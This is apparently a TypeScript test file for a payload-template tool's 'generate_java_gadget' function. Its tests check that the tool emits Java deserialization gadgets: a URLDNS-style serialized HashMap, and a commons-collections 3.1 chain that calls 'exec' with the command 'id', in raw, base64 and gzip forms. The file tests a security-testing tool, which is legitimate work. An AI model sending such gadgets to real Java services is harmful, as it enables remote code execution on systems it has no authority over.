import { gunzipSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { toBytes } from '../byte-string.ts';
import { evaluate } from './evaluate.ts';
import { namesIn, parseDsl } from './parser.ts';

const ambient = { random: { bytes: () => new Uint8Array(0), integer: () => 0, uuid: () => '' }, now: () => 0 };

function made(...args: readonly string[]): string {
  const node = parseDsl(`generate_java_gadget(${args.map((arg) => `"${arg}"`).join(', ')})`);
  if (!node.ok) throw new Error(node.error);
  const value = evaluate(node.value, new Map(), ambient);
  return value.ok ? String(value.value) : `fault: ${value.error.reason}`;
}

it('makes a map whose key is a URL, as a Java 17 reads it', () => {
  const hex = made('dns', 'http://a.test:81/x', 'hex');
  expect(hex).toBe(
    [
      'aced0005', // STREAM_MAGIC, STREAM_VERSION
      '737200116a6176612e7574696c2e486173684d6170', // object of java.util.HashMap
      '0507dac1c31660d1030002', // its serialVersionUID, flags, two fields
      '46000a6c6f6164466163746f724900097468726573686f6c647870', // float loadFactor, int threshold, no parent
      '3f4000000000000c', // 0.75, 12
      '77080000001000000001', // capacity 16, one entry
      '7372000c6a6176612e6e65742e55524c962537361afce472030007', // object of java.net.URL
      '49000868617368436f6465490004706f7274',
      ...['authority', 'file', 'host', 'protocol', 'ref'].map(
        (name) =>
          `4c${name.length.toString(16).padStart(4, '0')}${Buffer.from(name).toString('hex')}7400124c6a6176612f6c616e672f537472696e673b`,
      ),
      '7870',
      'ffffffff00000051', // hash not known yet, port 81
      ...['a.test:81', '/x', 'a.test', 'http'].map(
        (text) => `74${text.length.toString(16).padStart(4, '0')}${Buffer.from(text).toString('hex')}`,
      ),
      '7078', // no fragment; end of the URL
      `740012${Buffer.from('http://a.test:81/x').toString('hex')}78`,
    ].join(''),
  );
});

it('gives a gadget in each form', () => {
  const raw = made('commons-collections3.1', 'id', 'raw');
  expect(raw.startsWith('\xac\xed\x00\x05sr\x00\x11java.util.HashSet')).toBe(true);
  expect(raw).toContain('t\x00\x04exec');
  expect(raw).toContain('t\x00\x02id');
  expect(Buffer.from(made('commons-collections3.1', 'id', 'base64-raw'), 'base64').toString('latin1')).toBe(raw);
  expect(made('commons-collections3.1', 'id', '')).not.toContain('+');
  expect(made('commons-collections3.1', 'id', 'base64').replaceAll('%2B', '+')).toBe(
    made('commons-collections3.1', 'id', 'base64-raw'),
  );
  expect(gunzipSync(toBytes(made('commons-collections3.1', 'id', 'gzip'))).toString('latin1')).toBe(raw);
});

it('has no others, and a template that asks for one does not compile', () => {
  expect(made('jdk7u21', 'id', 'raw')).toContain('fault');
  expect(made('constructor', 'id', 'raw')).toContain('fault');
  expect(made('dns', '', 'raw')).toContain('fault');
  const node = parseDsl('generate_java_gadget("jdk7u21", "id", "raw")');
  expect(node.ok && [...namesIn(node.value).functions]).toEqual(['generate_java_gadget jdk7u21']);
});
